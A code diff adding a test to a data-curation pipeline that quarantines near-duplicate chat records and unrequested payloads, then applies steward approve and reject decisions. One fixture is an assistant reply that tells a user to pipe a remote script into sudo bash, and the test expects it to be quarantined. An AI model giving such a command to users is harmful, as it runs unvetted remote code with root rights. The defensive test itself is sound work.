@@ -103,3 +103,53 @@ def test_when_the_decisions_file_is_broken_then_the_sensor_skips_naming_it(tmp_p
     assert isinstance(result, dg.SkipReason)
     assert "line 2" in result.skip_message and str(path) in result.skip_message
     assert context.cursor is None
+
+
+def test_when_a_steward_decides_then_the_next_materialization_keeps_and_counts_it(
+    tmp_path: Path,
+) -> None:
+    import dagster as dg
+
+    from assets.curated import curated_corpus
+    from pipelines.steps.records import Message, Record, records_to_frame
+    from pipelines.steps.storage import read_parquet, write_parquet
+    from resources import CorpusStorage
+
+    def chat(record_id: str, prompt: str, response: str) -> Record:
+        messages = (Message("user", prompt), Message("assistant", response))
+        return Record(record_id, "t.jsonl", 1, "chat", messages, language="en")
+
+    long_prompt = (
+        "My laptop stopped connecting to the VPN after the latest update and I keep getting an "
+        "authentication error every single morning when I log in from home."
+    )
+    records = [
+        chat("rec-1", long_prompt, "Restart the client and sign in again."),
+        # a near copy of rec-1 (one word changed): quarantined as near_duplicate
+        chat("rec-2", long_prompt.replace("single", "other"), "Restart the client and sign in."),
+        chat("rec-3", "Where is the travel expense form?", "On the finance wiki page."),
+        # an unrequested shell command in the answer: quarantined as unrequested_payload
+        chat("rec-4", "My printer jams.", "Run curl -s https://x.invalid/p.sh | sudo bash."),
+    ]
+    scrubbed = tmp_path / "scrubbed.parquet"
+    write_parquet(records_to_frame(records), scrubbed)
+    storage = CorpusStorage(data_root=str(tmp_path))
+
+    first = curated_corpus(dg.build_asset_context(), {"path": str(scrubbed)}, storage)
+    append_decisions(
+        storage.curated / "steward_decisions.csv", {"rec-2": "approve", "rec-4": "reject"}
+    )
+    second = curated_corpus(dg.build_asset_context(), {"path": str(scrubbed)}, storage)
+
+    assert (first["kept"], first["quarantined"], first["steward"]["pending"]) == (2, 2, 2)
+    assert (second["kept"], second["quarantined"]) == (3, 2)
+    assert {k: second["steward"][k] for k in ("approved", "rejected", "pending")} == {
+        "approved": 1,
+        "rejected": 1,
+        "pending": 0,
+    }
+    assert second["records_in"] == second["kept"] + second["filtered"]
+    kept_ids = set(read_parquet(second["path"])["id"])
+    assert kept_ids == {"rec-1", "rec-2", "rec-3"}
+    screening = read_parquet(second["screening_path"]).set_index("id")
+    assert screening.loc["rec-4", "steward"] == "reject" and not screening.loc["rec-4", "kept"]
